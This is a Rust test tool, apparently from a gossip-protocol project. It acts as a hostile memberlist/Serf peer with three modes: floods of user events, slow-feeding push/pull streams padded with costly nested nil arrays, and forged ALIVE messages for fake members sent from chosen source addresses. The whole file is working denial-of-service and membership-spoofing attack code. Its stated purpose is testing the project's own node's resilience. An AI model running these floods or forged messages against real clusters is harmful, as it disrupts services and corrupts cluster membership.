//! A hostile gossip peer for the tests (not shipped on the box): it speaks
//! the memberlist/Serf wire format in the clear and does one of
//!
//! ```text
//! nuvol-gossip-attack events  --target IP:PORT [--count N] [--ltime L] [--ltimes K] [--payload BYTES] [--rate PER_S] [--source IP]
//! nuvol-gossip-attack trickle --target IP:PORT [--chunk BYTES] [--every-ms MS] [--max-bytes BYTES] [--conns N] [--shape nils|string] [--sources IP,...]
//! nuvol-gossip-attack alives  --target IP:PORT [--count N] [--rate PER_S] [--sources IP,IP,...] [--prefix NAME]
//! ```
//!
//! - `events`: N distinct Serf user events, each with a payload of BYTES,
//!   one UDP packet each, at Lamport times L, L+1, ... L+K-1 in turn (K = 1:
//!   all at L);
//! - `trickle`: opens N push/pull streams (from the source addresses in
//!   turn) and feeds each, CHUNK bytes every MS ms, a header whose extra
//!   field is BYTES long: an array of arrays of 1000 `nil`s each (`nils`,
//!   cheap to send, costly to re-parse) or one string (`string`); prints
//!   how long the streams lasted before the node cut them;
//! - `alives`: N forged memberlist ALIVE messages for made-up members
//!   (`PREFIX-i` at 127.66.x.y, where nothing listens), sent from UDP sockets
//!   bound to the given source addresses in turn.
//!
//! Prints one line `done key=value ...` at the end.

use nuvol_gossip::msgpack::Writer;
use nuvol_gossip::node::VSN;
use nuvol_gossip::serf::UserEvent;
use nuvol_gossip::wire::{self, ty, Alive, PushPullHeader};
use std::io::Write;
use std::net::{IpAddr, SocketAddr, TcpStream, UdpSocket};
use std::time::{Duration, Instant};

fn usage(msg: &str) -> ! {
    eprintln!("nuvol-gossip-attack: {msg}");
    std::process::exit(2)
}

struct Args {
    target: SocketAddr,
    count: u64,
    ltime: u64,
    ltimes: u64,
    payload: usize,
    rate: u64,
    source: IpAddr,
    sources: Vec<IpAddr>,
    prefix: String,
    chunk: usize,
    every_ms: u64,
    max_bytes: usize,
    conns: usize,
    shape: String,
}

fn parse() -> (String, Args) {
    let mut it = std::env::args().skip(1);
    let mode = it
        .next()
        .unwrap_or_else(|| usage("mode: events, trickle or alives"));
    let mut a = Args {
        target: SocketAddr::from(([127, 0, 0, 1], 7946)),
        count: 1000,
        ltime: 100,
        ltimes: 1,
        payload: 64,
        rate: 1000,
        source: IpAddr::from([127, 0, 0, 1]),
        sources: vec![IpAddr::from([127, 0, 0, 1])],
        prefix: "fake".into(),
        chunk: 1024,
        every_ms: 1,
        max_bytes: 4 << 20,
        conns: 1,
        shape: "nils".into(),
    };
    let mut target = None;
    while let Some(k) = it.next() {
        let v = it
            .next()
            .unwrap_or_else(|| usage(&format!("{k} needs a value")));
        let num = |v: &str| -> u64 { v.parse().unwrap_or_else(|_| usage(&format!("bad {k}"))) };
        // Sizes parse as usize: too large for this machine is "bad", not cut.
        let size = |v: &str| -> usize { v.parse().unwrap_or_else(|_| usage(&format!("bad {k}"))) };
        match k.as_str() {
            "--target" => target = Some(v.parse().unwrap_or_else(|_| usage("bad --target"))),
            "--count" => a.count = num(&v),
            "--ltime" => a.ltime = num(&v),
            "--ltimes" => a.ltimes = num(&v).max(1),
            "--payload" => a.payload = size(&v),
            "--rate" => a.rate = num(&v).max(1),
            "--source" => a.source = v.parse().unwrap_or_else(|_| usage("bad --source")),
            "--sources" => {
                a.sources = v
                    .split(',')
                    .map(|s| s.parse().unwrap_or_else(|_| usage("bad --sources")))
                    .collect()
            }
            "--prefix" => a.prefix = v,
            "--chunk" => a.chunk = size(&v).max(1),
            "--every-ms" => a.every_ms = num(&v),
            "--max-bytes" => a.max_bytes = size(&v),
            "--conns" => a.conns = size(&v).max(1),
            "--shape" => a.shape = v,
            _ => usage(&format!("unknown argument {k}")),
        }
    }
    a.target = target.unwrap_or_else(|| usage("--target is required"));
    (mode, a)
}

/// Sleep so that `sent` messages take `sent / rate` seconds from `t0`.
fn pace(t0: Instant, sent: u64, rate: u64) {
    let due = Duration::from_secs_f64(sent as f64 / rate as f64);
    if let Some(wait) = due.checked_sub(t0.elapsed()) {
        std::thread::sleep(wait);
    }
}

fn events(a: &Args) {
    let sock = UdpSocket::bind((a.source, 0)).unwrap_or_else(|e| usage(&format!("bind: {e}")));
    let t0 = Instant::now();
    let mut sent = 0u64;
    for i in 0..a.count {
        let mut payload = format!("{i:08}").into_bytes();
        payload.resize(a.payload.max(8), b'x');
        let ev = UserEvent {
            ltime: a.ltime + i % a.ltimes,
            name: "flood".into(),
            payload,
            cc: false,
        };
        let mut msg = vec![ty::USER];
        msg.extend_from_slice(&ev.encode());
        if sock.send_to(&msg, a.target).is_ok() {
            sent += 1;
        }
        pace(t0, i + 1, a.rate);
    }
    println!("done sent={sent} secs={:.2}", t0.elapsed().as_secs_f64());
}

/// The push/pull header with an extra field (ignored by Go's decoder) of
/// about `max_bytes`: arrays of 1000 `nil`s each, or one string.
fn endless_header(max_bytes: usize, shape: &str) -> Vec<u8> {
    let inner = 1000usize;
    let outer = (max_bytes / (inner + 3)).clamp(1, 0xffff);
    let mut w = Writer::with_type(ty::PUSH_PULL);
    w.map_len(4);
    let mut h = Writer::new();
    PushPullHeader {
        nodes: 0,
        user_state_len: 0,
        join: false,
    }
    .encode(&mut h);
    // PushPullHeader writes its own 3-entry map: splice its entries in
    w.extend(&h.buf[1..]);
    w.key("Pad");
    if shape == "string" {
        w.raw(&vec![b'x'; max_bytes]);
        return w.into_bytes();
    }
    w.array_len(outer);
    for _ in 0..outer {
        w.array_len(inner);
        w.extend(&vec![0xc0u8; inner]);
    }
    w.into_bytes()
}

/// A TCP connection to `to` from `source` (IPv4; IPv6 from any address).
fn connect_from(source: IpAddr, to: SocketAddr) -> std::io::Result<TcpStream> {
    use nix::sys::socket::{bind, connect, socket, AddressFamily, SockFlag, SockType, SockaddrIn};
    let (SocketAddr::V4(to4), IpAddr::V4(src)) = (to, source) else {
        return TcpStream::connect(to);
    };
    let fd = socket(
        AddressFamily::Inet,
        SockType::Stream,
        SockFlag::SOCK_CLOEXEC,
        None,
    )?;
    use std::os::fd::AsRawFd;
    bind(
        fd.as_raw_fd(),
        &SockaddrIn::from(std::net::SocketAddrV4::new(src, 0)),
    )?;
    connect(fd.as_raw_fd(), &SockaddrIn::from(to4))?;
    Ok(TcpStream::from(fd))
}

fn trickle(a: &Args) {
    let body = endless_header(a.max_bytes, &a.shape);
    let t0 = Instant::now();
    let threads: Vec<_> = (0..a.conns)
        .map(|c| {
            let body = body.clone();
            let source = a.sources[c % a.sources.len()];
            let (target, chunk, every) = (a.target, a.chunk, Duration::from_millis(a.every_ms));
            std::thread::spawn(move || {
                let start = Instant::now();
                let Ok(mut s) = connect_from(source, target) else {
                    return (0usize, Duration::ZERO, false);
                };
                let _ = s.set_nodelay(true);
                let _ = s.set_write_timeout(Some(Duration::from_secs(2)));
                let mut sent = 0;
                let mut cut = false;
                for c in body.chunks(chunk) {
                    if s.write_all(c).is_err() {
                        cut = true;
                        break;
                    }
                    sent += c.len();
                    std::thread::sleep(every);
                }
                if !cut {
                    // all sent: wait for the node to close
                    let _ = s.set_read_timeout(Some(Duration::from_secs(60)));
                    let mut b = [0u8; 64];
                    let _ = std::io::Read::read(&mut s, &mut b);
                }
                (sent, start.elapsed(), cut)
            })
        })
        .collect();
    let mut cut = 0;
    let mut each = Vec::new();
    let mut bytes = 0;
    for t in threads {
        if let Ok((sent, took, c)) = t.join() {
            bytes += sent;
            cut += usize::from(c);
            each.push(took.as_secs_f64());
        }
    }
    each.sort_by(f64::total_cmp);
    let list: Vec<String> = each.iter().map(|s| format!("{s:.2}")).collect();
    println!(
        "done conns={} cut={cut} bytes={bytes} shortest_secs={:.2} longest_secs={:.2} secs_each={} secs={:.2}",
        a.conns,
        each.first().copied().unwrap_or(0.0),
        each.last().copied().unwrap_or(0.0),
        list.join(","),
        t0.elapsed().as_secs_f64()
    );
}

fn alives(a: &Args) {
    let socks: Vec<UdpSocket> = a
        .sources
        .iter()
        .map(|ip| UdpSocket::bind((*ip, 0)).unwrap_or_else(|e| usage(&format!("bind {ip}: {e}"))))
        .collect();
    let t0 = Instant::now();
    let mut sent = 0u64;
    for i in 0..a.count {
        let alive = Alive {
            incarnation: 1,
            node: format!("{}-{i}", a.prefix),
            addr: vec![127, 66, (i >> 8) as u8, i as u8],
            port: 9,
            meta: Vec::new(),
            vsn: VSN.to_vec(),
        };
        let sock = &socks[(i as usize) % socks.len()];
        let pkt = wire::compound(&[alive.encode()]);
        if sock.send_to(&pkt, a.target).is_ok() {
            sent += 1;
        }
        pace(t0, i + 1, a.rate);
    }
    println!("done sent={sent} secs={:.2}", t0.elapsed().as_secs_f64());
}

fn main() {
    let (mode, a) = parse();
    match mode.as_str() {
        "events" => events(&a),
        "trickle" => trickle(&a),
        "alives" => alives(&a),
        _ => usage("mode: events, trickle or alives"),
    }
    let _ = std::io::stdout().flush();
}
